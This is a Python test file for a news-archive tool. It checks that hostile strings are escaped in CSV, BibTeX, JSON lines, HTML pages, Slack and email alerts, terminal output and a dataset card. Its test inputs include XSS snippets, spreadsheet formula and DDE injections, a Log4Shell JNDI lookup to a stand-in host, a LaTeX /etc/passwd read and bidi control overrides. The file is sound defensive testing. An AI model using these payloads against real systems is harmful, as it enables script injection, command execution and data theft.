"""One set of hostile strings, as outlets' pages carry them (titles, repeated lines, URLs, author names),
through every output people read: the Archive page (HTML), the alerts (Slack mrkdwn, email), CSV
(`query`, `stats`, `export`), BibTeX and CSL-JSON (`export`), terminal tables and hits (`query`, `search`), JSON
lines (`query`, `export`, WACZ `pages.jsonl`). Each output must parse as its format and carry no live
markup: no tag, mention, link, formula, unbalanced brace, control or bidi override of the page's making.
Each string in each output is a row of `edges (sink <name>)` in `make test`'s summary."""

from __future__ import annotations

import csv
import io
import json
import re
import traceback
import zipfile
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pytest

from archive.current_table import refresh_day
from archive.records import ArchivedRow, CrawlReport, OutletCounts
from archive.snapshot import publish_snapshot
from archive.store import open_store
from common.escape import visible
from newsarchive.airflow_glue.alerts import describe
from newsarchive.airflow_glue.archive_page.health import (
    ArchiveHealth,
    DayPoint,
    GapRow,
    OutletHealth,
    ProblemRow,
    SnapshotRow,
)
from newsarchive.airflow_glue.archive_page.render import render
from newsarchive.cli.main import main
from newsarchive.run.quality import QualityCheckFailed, check, quality_figures
from outlets.registry import load_registry
from tests.archive.warcs import Page, page_html, row, write_warc
from tests.report import edge_row

DAY = date(2026, 11, 21)
RANGE = ("--since", "2026-11-21", "--until", "2026-11-21")
HOSTILE = [
    "<!channel> عاجل",
    "<https://evil.example|اضغط هنا> للتفاصيل",
    "<script>alert(1)</script> سوريا",
    '"><img src=x onerror=alert(1)> حلب',
    '=HYPERLINK("https://evil.example","تفاصيل")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1 دمشق",
    "-2+3 درعا",
    "\t=1+1 إدلب",
    "\r=1+1 حمص",
    "عنوان }@article{x, title={y",
    "\\input{/etc/passwd} 100% #1 $x$ ~_^ &",
    "\u202eأخبار\u202c txt.exe",
    "\u2066عزل\u2069 \u202aتضمين \u202bو\u202d",
    "\x1b[31mأحمر\x1b[0m \x1b]8;;https://evil.example\x07رابط\x1b]8;;\x07",
    "سطر\u2028فاصل\u2029فقرة\x85سطر",
    "*عريض* _مائل_ ~مشطوب~ `رمز` ```كتلة```",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.example/a}",
    "https://evil.example/؟q=<b>&x=\"'",
    "كاتب & شريك <author@example.org>",
    "\x00nul\x7fdel\x9bcsi \u061cعلامة\u200fالاتجاه",
]
RAW = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)  # what no output carries raw (newline and tab aside)
ARABIC = re.compile("[\u0621-\u064a]+")


@pytest.fixture(autouse=True)
def own_cache(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))


def _words(text: str) -> list[str]:
    return ARABIC.findall(text)


@pytest.fixture
def archive(tmp_path) -> Path:
    """One day: an article per hostile string (its title, author, URL and a line of its text), every
    article sharing one hostile repeated line, with real WARC captures (so a WACZ has its pages)."""
    path = tmp_path / "archive"
    pages, rows = [], []
    for n, text in enumerate(HOSTILE):
        rid = f"<urn:uuid:00000000-0000-4000-8000-{n:012d}>"
        page = Page(
            f"https://www.enabbaladi.net/archives/{n}",
            rid,
            f"2026-11-21T03:00:{n:02d}Z",
            page_html(f"عنوان {n}", "سوريا"),
        )
        pages.append(page)
        r = row(n, page, "enabbaladi", title=text, text=f"سوريا اليوم\n{text}\n{HOSTILE[0]}")
        r.update(author=text, url=f"https://www.enabbaladi.net/archives/{n}/{text}")
        rows.append(r)
    warc = write_warc(
        tmp_path / "e.warc.gz",
        pages,
        {p.record_id: r["id"] for p, r in zip(pages, rows, strict=True)},
    )
    store = open_store(path)
    publish_snapshot(store, DAY, rows, {"enabbaladi": warc})
    refresh_day(store, DAY.isoformat())
    return path


def _cli(capsys, *argv: str) -> tuple[int | None, str, str, bool]:
    try:
        code: int | None = main(list(argv))
        escaped = False
    except BaseException:  # noqa: BLE001 (anything escaping main is what this test counts)
        code, escaped = None, True
        traceback.print_exc()
    out, err = capsys.readouterr()
    return code, out, err, escaped or "Traceback" in err


def _record(sink: str, held_each: list[bool], escaped: bool = False) -> None:
    for held in held_each:
        edge_row(f"sink {sink}", held=held and not escaped, traceback=escaped)


def test_csv_cells_are_never_formulas_and_carry_no_controls(archive, capsys):
    code, out, err, escaped = _cli(
        capsys,
        "query",
        "SELECT title, author, url, text FROM articles ORDER BY id",
        "--archive",
        str(archive),
        "--format",
        "csv",
    )
    cells = list(csv.reader(io.StringIO(out, newline="")))
    header, body = cells[0], cells[1:]
    held = []
    for text, line in zip(HOSTILE, body, strict=True):
        ok = all(c[:1] not in "=+-@\t\r" and not RAW.search(c) for c in line)
        ok &= _words(line[0]) == _words(text) and line[2].startswith("https://")
        held.append(ok)
    _record("csv", held, escaped)
    assert code == 0 and header == ["title", "author", "url", "text"] and all(held), body
    assert body[4][0].startswith("'=HYPERLINK(") and body[5][0].startswith("'@SUM(")


def test_export_csv_cells_are_never_formulas_and_carry_no_controls(archive, capsys, tmp_path):
    out = tmp_path / "export.csv"
    code, _, err, escaped = _cli(
        capsys, "export", "--archive", str(archive), *RANGE, "--format", "csv", "--out", str(out)
    )
    cells = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    body = sorted(cells, key=lambda r: int(r["url"].split("/")[4]))
    held = []
    for text, line in zip(HOSTILE, body, strict=True):
        values = [line[c] for c in ("title", "author", "url", "text")]
        ok = all(v[:1] not in "=+-@\t\r" and not RAW.search(v) for v in values)
        ok &= _words(line["title"]) == _words(text) and line["url"].startswith("https://")
        held.append(ok)
    _record("export csv", held, escaped)
    assert code == 0 and all(held), (err, body)
    assert body[4]["title"].startswith("'=HYPERLINK(") and body[5]["title"].startswith("'@SUM(")


def test_terminal_tables_and_hits_show_controls_and_keep_arabic(archive, capsys):
    code, out, err, escaped = _cli(
        capsys, "query", "SELECT title, author FROM articles ORDER BY id", "--archive", str(archive)
    )
    lines = out.splitlines()[1:-1]
    held = [
        not RAW.search(line) and _words(line) == _words(t) * 2
        for t, line in zip(HOSTILE, lines, strict=True)
    ]
    assert code == 0 and len(lines) == len(HOSTILE)
    assert _cli(capsys, "search-index", "--archive", str(archive))[0] == 0
    code, out, err, escaped2 = _cli(
        capsys, "search", "سوريا", "--archive", str(archive), "--limit", "50"
    )
    hits = out.split("\n")
    held.append(code == 0 and not RAW.search(out) and len(hits) > 4 * len(HOSTILE))
    _record("terminal", held, escaped or escaped2)
    assert all(held), (lines, out)
    assert "\\u202e" in out and "\\x1b[31m" in out  # shown, not obeyed


def test_json_lines_are_lossless_and_one_line_per_row(archive, capsys, tmp_path):
    code, out, err, escaped = _cli(
        capsys,
        "query",
        "SELECT title, author FROM articles ORDER BY id",
        "--archive",
        str(archive),
        "--format",
        "jsonl",
    )
    rows = [json.loads(line) for line in out.splitlines()]  # splitlines: U+2028 and U+0085 too
    held = [
        r == {"title": t, "author": t} and not RAW.search(line)
        for t, r, line in zip(HOSTILE, rows, out.splitlines(), strict=True)
    ]
    code2, _, _, escaped2 = _cli(
        capsys,
        "export",
        *RANGE,
        "--archive",
        str(archive),
        "--format",
        "jsonl",
        "--out",
        str(tmp_path / "e.jsonl"),
    )
    exported = (tmp_path / "e.jsonl").read_text()
    titles = sorted(json.loads(line)["title"] for line in exported.splitlines())
    held.append(code2 == 0 and titles == sorted(HOSTILE) and not RAW.search(exported))
    _record("jsonl", held, escaped or escaped2)
    assert code == 0 and all(held)


def test_bibtex_parses_strictly_and_csl_json_is_lossless(archive, capsys, tmp_path):
    from pybtex import errors
    from pybtex.database import parse_file

    bib, csl = tmp_path / "cite.bib", tmp_path / "cite.json"
    code, _, _, escaped = _cli(
        capsys, "export", *RANGE, "--archive", str(archive), "--format", "bibtex", "--out", str(bib)
    )
    errors.set_strict_mode(True)
    entries = parse_file(str(bib), "bibtex").entries  # the whole file, strictly
    text = bib.read_text()
    depth_ok, depth = True, 0
    for ch in text:
        depth += {"{": 1, "}": -1}.get(ch, 0)
        depth_ok &= depth >= 0
    by_id = {key.rsplit("-", 1)[-1]: e for key, e in entries.items()}
    held = [
        not RAW.search(by_id[f"id{n:04d}"].fields["title"])
        and _words(by_id[f"id{n:04d}"].fields["title"]) == _words(t)
        for n, t in enumerate(HOSTILE)
    ]
    held = [h and depth_ok and depth == 0 and code == 0 for h in held]
    _record("bibtex", held, escaped)
    assert all(held) and len(entries) == len(HOSTILE)
    code, _, _, escaped = _cli(
        capsys,
        "export",
        *RANGE,
        "--archive",
        str(archive),
        "--format",
        "csl-json",
        "--out",
        str(csl),
    )
    raw = csl.read_text()
    items = {i["id"]: i for i in json.loads(raw)}
    held = [
        items[f"id{n:04d}"]["title"] == t
        and items[f"id{n:04d}"]["author"] == [{"literal": t}]
        and code == 0
        and not RAW.search(raw)
        for n, t in enumerate(HOSTILE)
    ]
    _record("csl-json", held, escaped)
    assert all(held)


def test_wacz_pages_jsonl_is_lossless_and_one_line_per_page(archive, capsys, tmp_path):
    code, out, err, escaped = _cli(
        capsys,
        "snapshots",
        "get",
        DAY.isoformat(),
        "--archive",
        str(archive),
        "--format",
        "wacz",
        "--dest",
        str(tmp_path / "wacz"),
    )
    [wacz] = list((tmp_path / "wacz").glob("*.wacz"))
    with zipfile.ZipFile(wacz) as z:
        raw = z.read("pages/pages.jsonl").decode()
    lines = raw.splitlines()
    pages = {p["id"]: p for p in map(json.loads, lines[1:])}
    held = [
        pages[f"id{n:04d}"]["title"] == t and not RAW.search(raw) and len(lines) == len(HOSTILE) + 1
        for n, t in enumerate(HOSTILE)
    ]
    _record("pages.jsonl", held, escaped)
    assert code == 0 and all(held), err


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


PAGE_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "div", "table"}
PAGE_TAGS |= {"tr", "th", "td", "span", "a", "svg", "line", "polyline", "circle", "text", "b"}
PAGE_TAGS |= {"pre", "code"}


def _inert_html(document: str) -> bool:
    parser = _Tags()
    parser.feed(document)
    parser.close()
    return all(
        tag in PAGE_TAGS
        and not any(name.startswith("on") for name, _ in attrs)
        and all(
            (value or "").startswith(("/dags/", "http://af"))
            for name, value in attrs
            if name == "href"
        )
        for tag, attrs in parser.tags
    ) and not RAW.search("".join(parser.text))


def _quality_failure() -> str:
    """The quality check's own message about the outlet's repeated line (and its furniture)."""
    rows = [
        ArchivedRow(
            f"e{n}",
            f"https://x/{n}",
            f"https://x/{n}",
            "enabbaladi",
            "t",
            None,
            None,
            None,
            None,
            "ar",
            f"سوريا اليوم\n{HOSTILE[0]}\n{HOSTILE[1]}\n{t}",
        )
        for n, t in enumerate(HOSTILE)
    ]
    n = len(rows)
    outlets = {
        "enabbaladi": OutletCounts(
            crawl=CrawlReport("enabbaladi", "finished", n, n, n), extracted=n, archived=n
        )
    }
    figures = quality_figures(load_registry(), outlets, rows, {})
    with pytest.raises(QualityCheckFailed) as failed:
        check(figures, "2026-11-21 rev 1")
    return str(failed.value)


def test_the_dataset_card_carries_no_live_markup(archive):
    """Each hostile string as the dataset's name, its terms and an outlet's name: every one stays in
    its line or table cell of the card's Markdown, with no tag, link, heading or control of its own."""
    from archive.dataset_card import DatasetInfo, decode_card
    from archive.dataset_docs import write_dataset_docs

    store = open_store(archive)
    held = []
    for text in HOSTILE:
        write_dataset_docs(store, DatasetInfo(text, text, {"enabbaladi": text}))
        card = decode_card(store.get_bytes("README.md"))
        body = re.sub(r"\n```.*?\n```", "", card.split("\n---\n", 1)[1], flags=re.S)
        row = next(line for line in body.splitlines() if line.startswith("| enabbaladi |"))
        live = re.compile(r"(?<!\\)(<|\]\()")  # a tag, an autolink or a link's target, unescaped
        ok = not RAW.search(card) and len(re.findall(r"(?<!\\)\|", row)) == 9
        ok &= not live.search(body) and body.count("\n## ") == 7
        ok &= _words(row) == _words("enabbaladi " + text)
        held.append(ok)
    _record("dataset card", held)
    assert all(held), [t for t, h in zip(HOSTILE, held, strict=True) if not h]


def test_the_archive_page_and_the_alerts_carry_no_live_markup():
    cause = _quality_failure()
    assert "<!channel>" in cause  # the repeated line the canary reports
    page = render(
        ArchiveHealth(
            archive=HOSTILE[1],
            days=("2026-11-21",),
            outlets=(OutletHealth("enabbaladi", (DayPoint("2026-11-21", 3, "ok"),), None),),
            gaps=tuple(
                GapRow("2026-11-21", "enabbaladi", "crawl", "http_500", t, "cli__x")
                for t in HOSTILE
            ),
            problems=(ProblemRow("2026-11-21", "scheduled__2026-11-21", cause),),
            snapshots=(SnapshotRow("2026-11-21", 1, "r", 10, 3, "failed", tuple(HOSTILE[:5])),),
            damaged=(HOSTILE[2],),
        ),
        notices=(HOSTILE[3],),
    )
    parsed = _Tags()
    parsed.feed(page)
    shown = "".join(parsed.text)  # what a reader sees: every string as text, controls shown
    held_page = [_inert_html(page) and visible(t) in shown for t in HOSTILE]
    _record("html", held_page)
    assert _inert_html(page) and all(held_page)

    ti = SimpleNamespace(
        dag_id="news_archive",
        run_id="scheduled__2026-11-21",
        task_id="quality",
        map_index=-1,
        rendered_map_index=None,
    )
    alerts = [describe({"ti": ti, "exception": c}, "http://af") for c in [cause, *HOSTILE]]

    def inert_slack(text: str) -> bool:
        return (
            "<" not in text and ">" not in text and text.count("```") == 2 and not RAW.search(text)
        )

    held_slack = [inert_slack(a.slack) for a in alerts]
    _record("slack", held_slack)
    assert all(held_slack)
    assert "&lt;!channel&gt;" in alerts[0].slack and "&lt;https://evil.example|" in alerts[0].slack
    held_mail = [
        _inert_html(a.html) and not RAW.search(a.subject) and "\n" not in a.subject for a in alerts
    ]
    _record("email", held_mail)
    assert all(held_mail)


@pytest.mark.slow  # Airflow's notifiers to a local SMTP server and a local Slack webhook
def test_the_real_notifiers_send_the_escaped_alert(monkeypatch):
    from newsarchive.airflow_glue.alerts import CONTEXT_KEY, AlertConfig, notifiers
    from tests.smtp import SmtpSink, WebhookSink

    cause = _quality_failure()
    ti = SimpleNamespace(
        dag_id="news_archive",
        run_id="scheduled__2026-11-21",
        task_id="quality",
        map_index=-1,
        rendered_map_index=None,
    )
    with WebhookSink() as slack, SmtpSink() as smtp:
        for key, value in {**slack.alert_env(), **smtp.alert_env("ops@example.org")}.items():
            monkeypatch.setenv(key, value)
        context = {"ti": ti, "exception": cause}
        alert = describe(context, "http://af")
        for notifier in notifiers(AlertConfig.from_env()):
            notifier({**context, CONTEXT_KEY: alert})
        [post] = slack.wait_for(1)
        [mail] = smtp.wait_for(1)
    text = post["text"]
    held = (
        "<" not in text
        and "&lt;!channel&gt;" in text
        and post.get("unfurl_links") is False
        and _inert_html(SmtpSink.html(mail))
        and "\n" not in mail["Subject"]
    )
    edge_row("sink slack", held=held)
    edge_row("sink email", held=held)
    assert held, (post, mail["Subject"])
